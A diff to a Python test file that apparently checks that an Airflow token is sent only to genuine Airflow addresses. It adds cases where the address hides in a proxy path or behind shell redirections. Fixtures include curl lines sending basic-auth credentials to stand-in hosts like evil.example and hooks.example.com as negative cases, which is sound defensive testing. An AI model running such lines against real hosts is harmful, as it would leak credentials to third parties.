@@ -45,6 +45,7 @@ OTHER_HOSTS = {
     "the address in another header": "curl -u a:b -H 'Referer: http://af/api/v1/dags' https://hooks.example.com",
     "the address in the query": "curl -u a:b 'https://hooks.example.com/?next=http://af/api/v1/dags'",
     "the address behind a userinfo": "curl -u a:b 'https://af@evil.example/api/v1/dags'",
+    "the address in a path": "curl -u a:b https://proxy.example.com/http://af/api/v1/dags",
     "two hosts in braces": "curl -u a:b 'https://{af,evil}.example/api/v1/dags'",
     "an operation that others have": "curl -u a:b https://grafana.example.com/api/v1/users",
     "Prometheus": f"{CALL}curl -u a:b https://prometheus.example.com/api/v1/query?query=up",
@@ -67,6 +68,7 @@ def test_a_token_is_sent_only_to_an_address_that_is_certainly_airflows(text: str
 OTHER_CALLS = {
     "another host": "requests.get('http://af/api/v1/dags')\nrequests.post('https://jenkins/x', auth=('a', 'b'))",
     "the address in the query": "requests.get('https://hooks/?u=http://af/api/v1/dags', auth=('a', 'b'))",
+    "the address in a path": "requests.get('https://proxy/' + 'http://af/api/v1/dags', auth=('a', 'b'))",
     "the address in the body": "requests.post('https://hooks/', {'u': 'http://af/api/v1/dags'}, auth=('a', 'b'))",
     "an address made elsewhere": "url = 'http://af/api/v1/dags'\nrequests.get(url, auth=('a', 'b'))",
     "a call of something else": "configure('http://af/api/v1/dags', auth=('a', 'b'))",
@@ -217,6 +219,10 @@ SHELL = {
         f"curl -s {BEARER} $AF/api/v2/dags",
     ),
     "in a substitution": ('X="$(curl -u a:b "$AF/api/v1/dags")"', f'X="$(curl {BEARER} "$AF/api/v2/dags")"'),
+    "with redirections": (
+        "curl -u a:b $AF/api/v1/dags > out 2>&1 </dev/null",
+        f"curl {BEARER} $AF/api/v2/dags > out 2>&1 </dev/null",
+    ),
     "in a condition": (
         "if ! curl -fu a:b $AF/api/v1/dags; then exit 1; fi",
         f"if ! curl -f {BEARER} $AF/api/v2/dags; then exit 1; fi",
